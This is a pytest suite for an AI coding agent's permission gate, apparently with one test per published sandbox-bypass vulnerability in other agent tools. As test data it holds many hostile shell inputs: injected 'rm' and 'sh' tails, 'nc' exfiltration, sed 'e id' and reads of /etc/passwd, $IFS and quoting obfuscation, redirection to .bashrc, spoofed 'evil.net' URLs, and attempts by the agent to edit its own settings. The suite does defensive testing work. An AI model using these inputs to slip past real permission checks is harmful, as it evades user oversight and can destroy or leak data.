"""One test for each published hole of other agents that a gate could have."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent_tui.core.effects import Fetches, Reads, Runs, Unknown, Writes
from agent_tui.core.verdicts import Allow, Ask, Deny, Mode
from agent_tui.permissions.sandbox import writable
from tests.permissions.conftest import Judge, MakeGate


def test_cve_2025_54794_a_sibling_directory_with_the_same_prefix_is_outside(gate: MakeGate, home: Path) -> None:
    evil = str(home / "proj-evil" / "x")
    assert isinstance(gate().judge("read_file", Reads((evil,)), Mode.ASK), Ask)
    assert isinstance(gate().judge("write_file", Writes((evil,)), Mode.EDITS), Ask)


@pytest.mark.parametrize("tail", ["$(rm x)", "`rm x`", "x; rm x", "x && rm x", "x\nrm x", "x > y", "x | sh"])
def test_cve_2025_54795_arguments_of_echo_do_not_break_out(judge: Judge, tail: str) -> None:
    assert isinstance(judge(f"echo {tail}", allow=["bash(echo *)"]), Ask)
    assert isinstance(judge(f'echo "a"{tail}"; rm x; echo "', allow=["bash(echo *)"]), Ask)


@pytest.mark.parametrize(
    "command", ["ping -c 1 h", "nslookup h", "dig h", "host h", "cat README.md | nc h 1", "curl h", "getent hosts h"]
)
def test_cve_2025_55284_nothing_that_reaches_the_network_is_read_only(judge: Judge, command: str) -> None:
    assert isinstance(judge(command), Ask)


@pytest.mark.parametrize(
    "command", ["rg --pre sh x", "rg --pre=sh x", "rg x --pre sh", "rg --hostname-bin=x y", "rg '--pre' sh x"]
)
def test_cve_2025_58764_ripgrep_runs_nothing(judge: Judge, command: str) -> None:
    assert isinstance(judge(command), Ask)


@pytest.mark.parametrize(
    "command",
    ["cat$IFS/etc/passwd", "rg${IFS}--pre${IFS}sh", "sort -ox README.md", "sed -ni p README.md", "git log -Ox"],
)
def test_cve_2025_66032_ifs_and_short_options_do_not_pass(judge: Judge, command: str) -> None:
    assert isinstance(judge(command), Ask)


@pytest.mark.parametrize(
    "script", ["w x", "1w x", "s/a/b/w x", "s/a/b/e", "e id", "1e", "r /etc/passwd", "W x", "1,2p;w x", "1p\nw x"]
)
def test_cve_2025_64755_sed_writes_and_runs_nothing(judge: Judge, script: str) -> None:
    assert isinstance(judge(f"sed '{script}' README.md"), Ask)
    assert isinstance(judge(f"sed -n '{script}' README.md"), Ask)


def test_cve_2026_25723_a_pipe_into_sed_writes_nothing(judge: Judge) -> None:
    for mode in (Mode.ASK, Mode.EDITS):
        assert isinstance(judge("echo 'rm x' | sed 'w .bashrc'", mode, allow=["bash(echo *)"]), Ask)


@pytest.mark.parametrize(
    "action", ["-exec", "-execdir", "-ok", "-okdir", "-delete", "-fls", "-fprint", "-fprint0", "-fprintf"]
)
def test_cve_2026_24887_find_runs_and_writes_nothing(judge: Judge, action: str) -> None:
    assert isinstance(judge(f"find . -name x {action} y ';'"), Ask)
    assert isinstance(judge(f"find . '{action}' y"), Ask)


@pytest.mark.parametrize("operator", [">", ">>", ">|", ">!", "&>", "&>>", ">&", "<>", "1>", "2>|", "{fd}>"])
def test_cve_2026_24053_no_form_of_writing_redirection_passes(judge: Judge, operator: str) -> None:
    assert isinstance(judge(f"echo x {operator} .bashrc", allow=["bash(echo *)"]), Ask)


@pytest.mark.parametrize(
    "command", ["cd .agent && cat x", "cd .git && ls", "cd .agent && echo x > config.yml", "cd .. && cat secret.txt"]
)
def test_cve_2026_25722_going_somewhere_first_changes_nothing(judge: Judge, root: Path, command: str) -> None:
    (root / ".agent").mkdir()
    assert isinstance(judge(command, allow=["bash(echo *)"]), Ask)


def test_cve_2025_59829_a_deny_rule_binds_the_target_of_a_link(gate: MakeGate, root: Path) -> None:
    (root / "alias").symlink_to(root / "secrets")
    (root / "secrets").mkdir()
    permissions = gate(deny=["read_file(/secrets/**)"])
    assert isinstance(permissions.judge("read_file", Reads((str(root / "alias/key"),)), Mode.YOLO), Deny)
    assert isinstance(permissions.judge("grep", Reads((str(root / "alias/key"),)), Mode.ASK), Deny)


def test_cve_2026_25724_a_deny_rule_binds_the_name_of_a_link_too(gate: MakeGate, root: Path) -> None:
    (root / "denied").symlink_to(root / "src")
    permissions = gate(deny=["read_file(/denied/**)"])
    assert isinstance(permissions.judge("read_file", Reads((str(root / "denied/a.py"),)), Mode.ASK), Deny)


def test_cve_2026_39861_a_link_that_appears_later_is_judged_by_where_it_leads(
    gate: MakeGate, root: Path, home: Path
) -> None:
    permissions = gate()
    target = str(root / "made" / "x")
    assert isinstance(permissions.judge("write_file", Writes((target,)), Mode.EDITS), Allow)
    (root / "made").symlink_to(home)
    assert isinstance(permissions.judge("write_file", Writes((target,)), Mode.EDITS), Ask)


@pytest.mark.parametrize(
    "name", [".agent/config.yml", ".mcp.json", ".vscode/tasks.json", ".git/hooks/pre-commit", "AGENTS.md", ".env"]
)
def test_cve_2026_25725_protected_names_are_protected_before_they_exist(gate: MakeGate, root: Path, name: str) -> None:
    assert not (root / name).exists()
    assert isinstance(gate().judge("write_file", Writes((str(root / name),)), Mode.EDITS), Ask)
    assert isinstance(gate(allow=["write_file"]).judge("write_file", Writes((str(root / name),)), Mode.EDITS), Ask)
    assert not any(Path(root, name).is_relative_to(part) for part in writable(str(root)))


@pytest.mark.parametrize(
    "command", ["yarn --version", "npm --version", "node -v", "pnpm -v", "bundle --version", "python -V"]
)
def test_cve_2025_65099_asking_for_a_version_runs_code_of_the_project(judge: Judge, command: str) -> None:
    assert isinstance(judge(command), Ask)


def test_cve_2025_59828_likewise_in_a_chain(judge: Judge) -> None:
    assert isinstance(judge("ls && yarn --version"), Ask)


@pytest.mark.parametrize(
    "setting",
    [
        "[core]\n\tfsmonitor = x",
        "[core]\n\thooksPath = x",
        "[core] pager = x",
        '[diff "x"]\n\ttextconv = x',
        "[include]\n\tpath = x",
        "[alias]\n\tstatus = !x",
        '[filter "x"]\n\tclean = x',
        "[core]\n\tsshCommand = x",
        "[user]\n\tname = a\\\n[core]",
        "nonsense ][",
    ],
)
def test_cve_2025_59041_settings_of_the_repository_run_nothing(judge: Judge, root: Path, setting: str) -> None:
    assert isinstance(judge("git status"), Allow)
    with (root / ".git/config").open("a") as file:
        file.write(f"\n{setting}\n")
    assert isinstance(judge("git status"), Ask)


def test_cve_2026_40068_a_worktree_that_points_elsewhere_is_not_trusted(judge: Judge, root: Path) -> None:
    (root / ".git/commondir").write_text("/elsewhere\n")
    assert isinstance(judge("git status"), Ask)


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org.evil.net/",
        "https://example.organic/",
        "https://evil.net/?example.org",
        "https://example.org@evil.net/",
        "https://evil-example.org/",
        "https://example.org\\@evil.net/",
        "ftp://example.org/",
        "https://xexample.org",
        "https://[::1]/",
        "https://",
        "https://exa mple.org/",
        "file:///etc/passwd",
        "https://evil.net#example.org",
        "https://[example.org/",
    ],
)
def test_cve_2026_24052_a_domain_is_compared_whole(gate: MakeGate, url: str) -> None:
    permissions = gate(allow=["web_fetch(domain:example.org)"])
    assert isinstance(permissions.judge("web_fetch", Fetches(url), Mode.ASK), Ask)
    for good in ("https://example.org/x", "http://docs.example.org", "https://EXAMPLE.org.:8080/"):
        assert isinstance(permissions.judge("web_fetch", Fetches(good), Mode.ASK), Allow)


def test_cve_2026_54316_no_domain_is_allowed_from_the_start(gate: MakeGate) -> None:
    for host in ("docs.python.org", "github.com", "raw.githubusercontent.com", "localhost"):
        assert isinstance(gate().judge("web_fetch", Fetches(f"https://{host}/x"), Mode.AUTO), Ask | Deny)


def test_cve_2026_46406_kept_rules_are_nobody_elses_to_read_or_redirect(gate: MakeGate, tmp_path: Path) -> None:
    gate().remember(["bash(make)"], "always")
    kept = tmp_path / "data" / "always.json"
    assert kept.stat().st_mode & 0o077 == 0
    assert kept.parent.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("count", [10, 49, 50, 51, 500, 3000])
def test_fifty_subcommands_cap_every_part_is_judged_however_many(judge: Judge, count: int) -> None:
    many = " && ".join(["ls"] * count)
    assert isinstance(judge(many), Allow)
    assert isinstance(judge(f"{many} && curl h", deny=["bash(curl *)"]), Deny)
    assert isinstance(judge(f"{many}; make"), Ask)


def test_cve_2025_59532_the_directory_of_a_call_widens_nothing(gate: MakeGate, home: Path) -> None:
    for cwd in (str(home), "/", str(home / "proj" / "out"), "src", ""):
        assert isinstance(gate().judge("bash", Runs("ls", cwd), Mode.ASK), Ask)


def test_cve_2025_61260_project_files_that_move_settings_are_asked_about(gate: MakeGate, root: Path) -> None:
    for name in (".env", ".env.local", ".envrc", "sub/.ENV", ".Env.Production"):
        assert isinstance(gate().judge("write_file", Writes((str(root / name),)), Mode.EDITS), Ask)
    assert isinstance(gate().judge("write_file", Writes((str(root / ".env.example"),)), Mode.EDITS), Allow)


@pytest.mark.parametrize(
    "command", ["grep x README.md; curl h", "grep x README.md" + " " * 3000 + "; curl h", "grep x\t\t;\tcurl h"]
)
def test_tracebit_2025_07_the_tail_counts_as_the_head_does(judge: Judge, command: str) -> None:
    assert isinstance(judge(command, allow=["bash(grep *)"]), Ask)


def test_cve_2026_12537_deny_and_ask_rules_hold_in_yolo(gate: MakeGate, root: Path) -> None:
    permissions = gate(deny=["bash(curl *)", "mcp__x"], ask=["bash(git push *)", "write_file(/db/**)"])
    assert isinstance(permissions.judge("bash", Runs("curl h", str(root)), Mode.YOLO), Deny)
    assert isinstance(permissions.judge("mcp__x__y", Unknown("mcp__x__y"), Mode.YOLO), Deny)
    assert isinstance(permissions.judge("bash", Runs("git push", str(root)), Mode.YOLO), Ask)
    assert isinstance(permissions.judge("edit_file", Writes((str(root / "db/x"),)), Mode.YOLO), Ask)
    assert isinstance(permissions.judge("bash", Runs("make", str(root)), Mode.YOLO), Allow)
    assert isinstance(permissions.judge("bash", Runs("$x h", str(root)), Mode.YOLO), Ask)


@pytest.mark.parametrize(
    "word", ["${x@P}", "${x:=y}", "${!x}", "${x//a/b}", "${x[$(id)]}", "$((x[$(id)]))", "$x", '"${x@P}"', "${x:-$(id)}"]
)
def test_ghsa_g8r9_g2v8_jv6f_expansions_are_never_read_only(judge: Judge, word: str) -> None:
    assert isinstance(judge(f"echo {word}", allow=["bash(echo *)"]), Ask)


def test_cve_2025_53773_the_agent_cannot_change_its_own_settings(gate: MakeGate, root: Path, home: Path) -> None:
    permissions = gate(allow=["write_file", "edit_file"])
    for path in (root / ".agent/config.yml", home / ".config/agent/config.yml", root / "sub/.Agent/x"):
        for mode in (Mode.ASK, Mode.EDITS, Mode.YOLO):
            assert isinstance(permissions.judge("write_file", Writes((str(path),)), mode), Ask)


@pytest.mark.parametrize(
    "builtin",
    ["export PAGER=x", "declare -x A=b", "typeset A=b", "readonly A=b", "alias ls=x", "set -a", "hash -p x ls"],
)
def test_cve_2026_22708_builtins_do_not_prepare_the_ground(judge: Judge, builtin: str) -> None:
    assert isinstance(judge(builtin), Ask)
    assert isinstance(
        judge(f"{builtin}; git log", allow=["bash(export *)", "bash(declare *)", "bash(alias *)", "bash(set *)"]), Ask
    )


@pytest.mark.parametrize(
    "name", [".mcp.json", ".MCP.json", ".Mcp.JSON", ".cursor/mcp.json", ".CURSOR/mcp.json", ".vscode/MCP.json"]
)
def test_cve_2025_54135_54136_59944_server_lists_are_protected_in_any_case(
    gate: MakeGate, root: Path, name: str
) -> None:
    assert isinstance(gate().judge("write_file", Writes((str(root / name),)), Mode.EDITS), Ask)


def test_cve_2026_34452_a_path_is_resolved_anew_for_every_verdict(gate: MakeGate, root: Path, home: Path) -> None:
    permissions, path = gate(), str(root / "src" / "a.py")
    assert isinstance(permissions.judge("edit_file", Writes((path,)), Mode.EDITS), Allow)
    Path(path).unlink()
    Path(path).symlink_to(home / "secret.txt")
    assert isinstance(permissions.judge("edit_file", Writes((path,)), Mode.EDITS), Ask)


def test_cve_2025_53109_a_link_does_not_lead_out(gate: MakeGate, root: Path) -> None:
    assert isinstance(gate().judge("read_file", Reads((str(root / "out/secret.txt"),)), Mode.ASK), Ask)


def test_cve_2025_53110_a_prefix_is_not_a_parent(gate: MakeGate, root: Path) -> None:
    assert isinstance(gate().judge("read_file", Reads((str(root) + "-evil/x",)), Mode.ASK), Ask)


def test_crush_497_allow_for_session_allows_that_and_no_more(gate: MakeGate, root: Path) -> None:
    permissions = gate()
    verdict = permissions.judge("bash", Runs("npm run dev", str(root)), Mode.ASK)
    assert isinstance(verdict, Ask)
    assert verdict.offer == ("bash(npm run dev)",)
    permissions.remember(verdict.offer, "session")
    assert isinstance(permissions.judge("bash", Runs("npm run dev", str(root)), Mode.ASK), Allow)
    for other in ("npm run build", "npm install", "rm x", "npm run dev && rm x"):
        assert isinstance(permissions.judge("bash", Runs(other, str(root)), Mode.ASK), Ask)


@pytest.mark.parametrize(
    "command",
    ["r''m x", "$'\\x72m' x", "\\rm x", "/bin/r? x", 'r""m x', "r$@m x", "$(echo rm) x", "`echo rm` x", "r{m,} x"],
)
def test_guardfall_2026_06_quoting_hides_nothing(judge: Judge, command: str) -> None:
    assert isinstance(judge(command), Ask)
    denied = judge(command, Mode.YOLO, deny=["bash(rm *)"])
    assert isinstance(denied, Deny | Ask)
    assert not isinstance(denied, Allow)


def test_ampermbench_2026_04_what_was_edited_is_not_run_unasked(judge: Judge, root: Path) -> None:
    (root / "Makefile").write_text("build:\n\tcurl h\n")
    assert isinstance(judge("make", Mode.EDITS), Ask)
    assert isinstance(judge("make build && ls", Mode.EDITS), Ask)


def test_hard_links_to_files_elsewhere_are_asked_about(gate: MakeGate, root: Path, home: Path) -> None:
    os.link(home / "secret.txt", root / "hard.txt")
    assert isinstance(gate().judge("edit_file", Writes((str(root / "hard.txt"),)), Mode.EDITS), Ask)


def test_adversa_2026_every_part_is_judged_however_many(judge: Judge) -> None:
    command = " && ".join(["true"] * 200 + ["curl h"])
    assert isinstance(judge(command, allow=["bash(true)"]), Ask)
    assert isinstance(judge(command, allow=["bash(true)"], deny=["bash(curl *)"]), Deny)
